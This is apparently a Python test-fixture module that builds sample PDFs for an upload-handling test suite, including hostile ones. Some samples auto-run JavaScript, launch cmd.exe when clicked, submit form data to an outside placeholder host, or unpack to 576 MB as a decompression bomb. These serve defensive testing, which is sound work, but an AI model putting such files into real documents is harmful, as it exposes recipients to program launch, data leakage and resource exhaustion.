"""Make the PDF files people and attackers upload; import them from `tests.documents.samples`."""

from __future__ import annotations

import functools
import io
import zlib
from typing import Any

import pikepdf

from tests.documents.image_samples import AUTHOR, phone_jpeg

SCRIPT = "app.alert('Skript laeuft')"
ATTACHMENT_TEXT = b"Anhang: geheime Tabelle"
FORM_VALUE = "148,60"


@functools.cache
def pdf(pages: int = 12) -> bytes:
    """Return a plain PDF of A4 pages, each saying its number."""
    with _document(pages) as document:
        document.docinfo["/Author"] = AUTHOR
        return _written(document)


@functools.cache
def pdf_with_javascript() -> bytes:
    """Return a PDF that runs scripts when opened, printed, and when its page is shown."""
    with _document(1) as document:
        script = _action("JavaScript", JS=pikepdf.String(SCRIPT))
        document.Root.OpenAction = script
        document.Root.AA = pikepdf.Dictionary(WP=script)
        document.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("start"), script]))
        )
        document.pages[0].AA = pikepdf.Dictionary(O=script)
        return _written(document)


@functools.cache
def pdf_with_embedded_file() -> bytes:
    """Return a PDF with an attached file, known to the document and to an annotation."""
    with _document(1) as document:
        document.attachments["tabelle.bin"] = ATTACHMENT_TEXT
        return _written(document, compress_streams=False)


@functools.cache
def pdf_with_launch_action() -> bytes:
    """Return a PDF whose page starts a program when clicked."""
    with _document(1) as document:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 500, 800]),
            A=_action("Launch", F=pikepdf.String("cmd.exe")),
        )
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])
        return _written(document)


@functools.cache
def pdf_with_form() -> bytes:
    """Return a PDF form with one filled field and a button that sends it away."""
    with _document(1) as document:
        font = document.pages[0].Resources.Font.F
        field = document.make_indirect(_text_field(document, font))
        button = document.make_indirect(_submit_button())
        document.pages[0].Annots = pikepdf.Array([field, button])
        document.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array([field, button]), DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
        )
        return _written(document)


@functools.cache
def pdf_with_phone_photograph() -> bytes:
    """Return a PDF as scanner apps make it: the phone's JPEG inside, its position included."""
    with _document(1) as document:
        picture = document.make_stream(phone_jpeg(1))
        picture.Type, picture.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        picture.Width, picture.Height, picture.BitsPerComponent = 1200, 1600, 8
        picture.ColorSpace, picture.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
        document.pages[0].Resources.XObject = pikepdf.Dictionary(P=picture)
        document.pages[0].Contents = document.make_stream(b"400 0 0 600 90 90 cm /P Do")
        return _written(document)


@functools.cache
def encrypted_pdf() -> bytes:
    """Return a PDF that opens only with a password."""
    with _document(1) as document:
        return _written(document, encryption=pikepdf.Encryption(user="geheim", owner="geheimer"))


@functools.cache
def locked_pdf() -> bytes:
    """Return a PDF that opens freely but is protected against changes."""
    with _document(1) as document:
        return _written(document, encryption=pikepdf.Encryption(user="", owner="geheimer"))


@functools.cache
def swelling_pdf() -> bytes:
    """Return a small PDF whose one stream unpacks to 576 MB."""
    packer = zlib.compressobj(9)
    zeros = b"\x00" * (16 * 1024 * 1024)
    packed = b"".join(packer.compress(zeros) for _ in range(36)) + packer.flush()
    with _document(1) as document:
        stream = document.make_stream(packed)
        stream.Filter = pikepdf.Name.FlateDecode
        document.pages[0].Contents = stream
        return _written(document, compress_streams=False)


@functools.cache
def portfolio_pdf() -> bytes:
    """Return a PDF portfolio: a cover sheet whose content is the attached files."""
    with _document(1) as document:
        document.attachments["rechnung.bin"] = ATTACHMENT_TEXT
        document.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)
        return _written(document)


@functools.cache
def dynamic_form_pdf() -> bytes:
    """Return an XFA form whose only page says "Please wait"."""
    with _document(1) as document:
        document.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp:xdp/>")
        )
        document.Root.NeedsRendering = True
        return _written(document)


@functools.cache
def pdf_with_huge_picture() -> bytes:
    """Return a PDF with a picture that claims 400 megapixels."""
    with _document(1) as document:
        picture = document.make_stream(b"\x00")
        picture.Type, picture.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        picture.Width, picture.Height, picture.BitsPerComponent = 20_000, 20_000, 1
        picture.ColorSpace = pikepdf.Name.DeviceGray
        document.pages[0].Resources.XObject = pikepdf.Dictionary(P=picture)
        return _written(document)


@functools.cache
def pdf_with_document_metadata() -> bytes:
    """Return a PDF with author, XMP and an editor's private data."""
    with _document(1) as document:
        with document.open_metadata() as metadata:
            metadata["dc:creator"] = [AUTHOR]
        document.docinfo["/Author"] = AUTHOR
        document.Root.Pages.Editor = pikepdf.String(AUTHOR)
        document.pages[0].PieceInfo = pikepdf.Dictionary(Editor=pikepdf.String(AUTHOR))
        return _written(document)


@functools.cache
def long_pdf() -> bytes:
    """Return a PDF page of 20 centimetres by five metres."""
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(567, 14_000))
        return _written(document)


@functools.cache
def truncated_pdf() -> bytes:
    """Return the beginning of a PDF, before any page."""
    return pdf()[:60]


def _document(pages: int) -> pikepdf.Pdf:
    document = pikepdf.new()
    font = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for number in range(1, pages + 1):
        document.add_blank_page(page_size=(595, 842))
        page = document.pages[-1]
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
        text = f"BT /F 24 Tf 60 740 Td (Arztrechnung, Seite {number}) Tj ET"
        page.Contents = document.make_stream(text.encode())
    return document


def _written(document: pikepdf.Pdf, **options: Any) -> bytes:
    target = io.BytesIO()
    document.save(target, **options)
    return target.getvalue()


def _action(kind: str, **entries: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **entries)


def _text_field(document: pikepdf.Pdf, font: pikepdf.Object) -> pikepdf.Dictionary:
    look = document.make_stream(f"/Tx BMC BT /F 14 Tf 4 8 Td ({FORM_VALUE}) Tj ET EMC".encode())
    look.Type, look.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    look.BBox = pikepdf.Array([0, 0, 200, 30])
    look.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("betrag"),
        V=pikepdf.String(FORM_VALUE), Rect=pikepdf.Array([60, 600, 260, 630]), F=4,
        AP=pikepdf.Dictionary(N=look),
    )  # fmt: skip


def _submit_button() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, Ff=65536,
        T=pikepdf.String("senden"), Rect=pikepdf.Array([60, 500, 160, 530]),
        A=_action("SubmitForm", F=pikepdf.String("https://fremd.example/")),
    )  # fmt: skip
